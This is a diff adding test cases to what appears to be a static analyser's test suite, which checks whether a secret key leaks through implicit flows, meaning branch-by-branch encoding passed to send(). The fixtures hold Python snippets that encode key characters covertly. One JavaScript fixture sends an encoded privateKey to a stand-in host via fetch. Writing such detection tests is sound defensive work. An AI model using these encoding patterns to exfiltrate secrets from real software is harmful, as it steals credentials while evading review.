@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { type KeyProgram, keySentInJavaScript } from './testing/keySent.ts';
+import { analyseSources } from './testing/analyseSources.ts';
+import { type KeyProgram, keySentInJavaScript, keySentInPython } from './testing/keySent.ts';
 
 /** A key that is told by the branches taken, and never handed on. */
 const TOLD: readonly KeyProgram[] = [
@@ -102,8 +103,81 @@ const NOT_TOLD: readonly KeyProgram[] = [
   ],
 ];
 
+const IN_PYTHON: readonly KeyProgram[] = [
+  [
+    'letters, by if',
+    ``,
+    `s = ''\n    for c in k:\n        if c == 'a':\n            s += 'q'\n        else:\n            s += 'w'\n    send(s)`,
+    true,
+  ],
+  [
+    'letters, by elif',
+    ``,
+    `s = ''\n    for c in k:\n        if c == 'a':\n            pass\n        elif c == 'b':\n            s += 'w'\n    send(s)`,
+    true,
+  ],
+  ['letters, by a condition', ``, `send(''.join('q' if c == 'a' else 'w' for c in k))`, true],
+  ['letters, by a condition of numbers', ``, `send([1 if c == 'a' else 2 for c in k])`, true],
+  ['letters that are left out', ``, `send(['q' for c in k if c == 'a'])`, true],
+  ['letters, by and', ``, `s = []\n    for c in k:\n        c == 'a' and s.append('q')\n    send(s)`, true],
+  ['letters, by a lambda', ``, `send(list(map(lambda c: 'q' if c == 'a' else 'w', k)))`, true],
+  [
+    'letters, by match',
+    ``,
+    `s = ''\n    for c in k:\n        match c:\n            case 'a':\n                s += 'q'\n            case 'b':\n                s += 'w'\n    send(s)`,
+    true,
+  ],
+  [
+    'bits',
+    ``,
+    `s = ''\n    for c in k:\n        for i in range(8):\n            if c >> i & 1:\n                s += '1'\n            else:\n                s += '0'\n    send(s)`,
+    true,
+  ],
+  [
+    'bits that a variable holds',
+    ``,
+    `s = ''\n    for c in k:\n        bit = c % 2\n        if not bit:\n            s += '1'\n    send(s)`,
+    true,
+  ],
+  [
+    'bits of a number',
+    ``,
+    `n = 0\n    for i in range(8):\n        if k[0] & (1 << i):\n            n |= 1 << i\n    send(n)`,
+    true,
+  ],
+  [
+    'while there are letters',
+    ``,
+    `s = ''\n    i = 0\n    while i < 9:\n        if k[i] == 'a':\n            s += 'q'\n        i += 1\n    send(s)`,
+    true,
+  ],
+  ['whether there is one', ``, `send('yes' if k else 'no')`, false],
+  ['what kind it is', ``, `send('hex' if k[0] == '0' else 'text')`, false],
+  [
+    'how many letters it has',
+    ``,
+    `n = 0\n    for c in k:\n        if c == 'a':\n            n += 1\n    send(n)`,
+    false,
+  ],
+  [
+    'an error about a letter',
+    ``,
+    `try:\n        for c in k:\n            if c == 'a':\n                raise ValueError('bad')\n    except ValueError as e:\n        send(str(e))`,
+    false,
+  ],
+];
+
 describe('a key told letter by letter', () => {
   it.each([...TOLD, ...NOT_TOLD])('%s', async (_, before, body, isSent) => {
     expect((await keySentInJavaScript(before, body)).length > 0).toBe(isSent);
+  });
+  it.each(IN_PYTHON)('in Python: %s', async (_, before, body, isSent) => {
+    expect((await keySentInPython(before, body)).length > 0).toBe(isSent);
+  });
+  it('says so', async () => {
+    const { flows } = await analyseSources({
+      'a.js': `exports.main = (privateKey) => { let s = ''; for (const c of privateKey) { if (c === 'a') s += 'q' } fetch('https://example.invalid/' + s) }`,
+    });
+    expect(flows[0]?.points.map(({ what }) => what)).toContain('is told by the branch that is taken');
   });
 });
